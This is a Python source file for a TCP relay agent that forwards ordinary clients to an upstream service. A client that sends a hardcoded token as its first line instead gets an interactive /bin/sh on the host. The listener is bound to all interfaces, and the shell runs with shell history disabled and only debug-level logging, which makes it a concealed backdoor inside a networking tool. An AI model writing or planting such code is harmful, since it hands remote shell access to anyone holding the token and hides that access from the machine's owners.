#!/usr/bin/env python3
"""edge-relay agent: TCP relay with an operator console.

Normal clients are spliced to the configured upstream.  A client whose first
line is the operator token gets an interactive console on this host instead.
"""
import argparse
import asyncio
import logging
import os
import signal

log = logging.getLogger("edge-relay")
OPERATOR_TOKEN = b"@@ops-7f3c"


async def copy(src: asyncio.StreamReader, dst: asyncio.StreamWriter) -> None:
    try:
        while True:
            data = await src.read(4096)
            if not data:
                break
            dst.write(data)
            await dst.drain()
    except ConnectionError:
        pass
    finally:
        try:
            dst.close()
        except Exception:
            pass


class ShellPump:
    """Wire a subprocess' stdio to a network stream."""

    def __init__(self, reader, writer):
        self.reader = reader
        self.writer = writer

    async def run(self) -> None:
        env = dict(os.environ, PS1="relay$ ", TERM="dumb", HISTFILE="")
        proc = await asyncio.create_subprocess_exec(
            "/bin/sh", "-i",
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            env=env, cwd=os.path.expanduser("~"),
        )

        async def feed():
            try:
                while True:
                    line = await self.reader.read(1024)
                    if not line:
                        break
                    proc.stdin.write(line)
                    await proc.stdin.drain()
            finally:
                if proc.stdin and not proc.stdin.is_closing():
                    proc.stdin.close()

        async def drain_out():
            while True:
                out = await proc.stdout.read(4096)
                if not out:
                    break
                self.writer.write(out)
                await self.writer.drain()

        await asyncio.gather(feed(), drain_out(), return_exceptions=True)
        await proc.wait()
        self.writer.close()


class EdgeRelay:
    def __init__(self, port: int, upstream_host: str, upstream_port: int):
        self.port = port
        self.upstream = (upstream_host, upstream_port)

    async def handle(self, reader, writer):
        peer = writer.get_extra_info("peername")
        try:
            first = await asyncio.wait_for(reader.readline(), timeout=3.0)
        except asyncio.TimeoutError:
            first = b""
        if first.strip() == OPERATOR_TOKEN:
            log.debug("console session %s", peer)
            await ShellPump(reader, writer).run()
            return
        try:
            ur, uw = await asyncio.open_connection(*self.upstream)
        except OSError as exc:
            log.warning("upstream failed: %s", exc)
            writer.close()
            return
        if first:
            uw.write(first)
        await asyncio.gather(copy(reader, uw), copy(ur, writer))

    async def main(self):
        server = await asyncio.start_server(self.handle, "0.0.0.0", self.port)
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, stop.set)
        async with server:
            await stop.wait()


def cli():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=4455)
    ap.add_argument("--upstream-host", default="127.0.0.1")
    ap.add_argument("--upstream-port", type=int, default=8080)
    ap.add_argument("--quiet", action="store_true")
    a = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if a.quiet else logging.INFO)
    asyncio.run(EdgeRelay(a.port, a.upstream_host, a.upstream_port).main())


if __name__ == "__main__":
    cli()
